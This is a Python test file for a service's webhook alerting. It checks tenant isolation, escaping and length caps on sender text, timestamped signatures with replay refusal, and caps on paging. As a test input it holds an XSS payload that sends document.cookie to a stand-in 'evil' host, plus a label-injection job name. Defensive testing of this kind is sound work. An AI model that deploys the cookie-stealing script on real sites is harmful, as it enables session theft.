"""What reaches a webhook from sender-controlled input: forged incidents for other tenants'
jobs are refused, sender text arrives escaped and capped, signatures carry a timestamp,
and a flood of hung jobs pages a bounded number of incidents."""

from __future__ import annotations

import dataclasses
import json
import time
from pathlib import Path

from mycroft.rca_service.config import AnalysisConfig
from mycroft.rca_service.incidents.alerts import SIGNATURE_HEADER, Alerter, verify, webhook_payload
from mycroft.rca_service.incidents.store import Store
from mycroft.rca_service.incidents.tracker import Incident
from mycroft.rca_service.service import RcaService, ServiceOptions

from mycroft.auth import Authenticator
from mycroft.faults.made_up_job import StepJob
from mycroft.otlp import request_from_records

from .helpers import WebhookReceiver, http, wait_until

SECRET = "hook-secret"
AUTH = Authenticator.from_mapping({"tokens": [
    {"token": "tenant-llama-token", "role": "ingest", "jobs": ["llama-*"]},
    {"token": "admin-token-0000", "role": "admin"},
]})
SCRIPT = "<script>fetch('//evil/'+document.cookie)</script>"


def test_forged_incidents_are_refused_and_sender_text_is_escaped(tmp_path: Path) -> None:
    hook = WebhookReceiver()
    cfg = dataclasses.replace(AnalysisConfig(), resolve_after_s=0.5)
    service = RcaService(ServiceOptions(otlp_grpc=None, otlp_http="127.0.0.1:0", http="127.0.0.1:0",
                                        db=str(tmp_path / "r.db"), tick_s=0.05, analysis=cfg, auth=AUTH,
                                        webhooks=[hook.url], webhook_secret=SECRET,
                                        alert_min_severity="info")).start()
    otlp = f"http://127.0.0.1:{service.receiver.http_port}/v1/traces"
    headers = {"Content-Type": "application/x-protobuf", "Authorization": "Bearer tenant-llama-token"}
    try:
        for name, expected in (("victim-job", 403), ("llama-mine", 200)):
            job = StepJob(name, 4, t0=time.time() - 5.0)
            spans = job.steps(20) + job.heartbeats(time.time(), not_entered=[2], stack=SCRIPT * 40)
            assert http(otlp, request_from_records(spans).SerializeToString(), headers)[0] == expected
        payloads = hook.wait(1)
        assert payloads and {p["commonLabels"]["mycroft_job"] for p in payloads} == {"llama-mine"}
        _, body = hook.requests[0]
        assert b"<script>" not in body and b"\\u003cscript\\u003e" in body  # the raw bytes carry no markup
        annotations = payloads[0]["alerts"][0]["annotations"]
        assert "<script>" not in annotations["description"] and "&lt;script&gt;" in annotations["description"]
        assert len(annotations["description"]) <= 4000 * 6  # capped before escaping
        headers_in, raw = hook.requests[0]
        assert headers_in[SIGNATURE_HEADER].startswith("t=") and verify(SECRET, raw, headers_in[SIGNATURE_HEADER])
        assert not verify(SECRET, raw, headers_in[SIGNATURE_HEADER], now=time.time() + 600)  # replay refused
        assert not wait_until(lambda: any(p["commonLabels"]["mycroft_job"] == "victim-job"
                                          for p in hook.payloads()), 1.0)
    finally:
        service.stop()
        hook.close()


def _incident(n: int, status: str = "firing") -> Incident:
    return Incident(id=f"inc-{n}", job=f"job-{n}", kind="hang", status=status, detected_at=100.0 + n,
                    summary="hang", root_causes=[{"rank": 1, "kind": "not_entered"}], graph={}, evidence={},
                    updated_at=100.0 + n)


def test_firing_pages_are_capped_resolutions_always_go(tmp_path: Path) -> None:
    store = Store(tmp_path / "a.db")
    alerter = Alerter(store, ["http://hook"], None)
    alerter.max_firing = 10
    sent = [alerter.notify(_incident(n), now=100.0) for n in range(25)]
    assert sent.count(True) == 10 and alerter.suppressed == 15 and store.outbox_size() == 10
    assert alerter.notify(_incident(3), now=101.0)  # an update of a paged incident still goes
    assert alerter.notify(_incident(3, "resolved"), now=102.0)
    assert alerter.notify(_incident(20), now=103.0)  # a slot freed: the next new one is paged
    assert not alerter.notify(_incident(21), now=103.0)
    store.close()


def test_labels_and_group_key_from_hostile_job_names() -> None:
    incident = _incident(1)
    incident.job = 'evil"} x{\n\x00' + "j" * 1000
    payload = webhook_payload(incident)
    label = payload["commonLabels"]["mycroft_job"]
    assert "\n" not in label and "\x00" not in label and len(label) <= 256
    assert json.loads(f'"{payload["groupKey"]}"').count('mycroft_job="') == 1
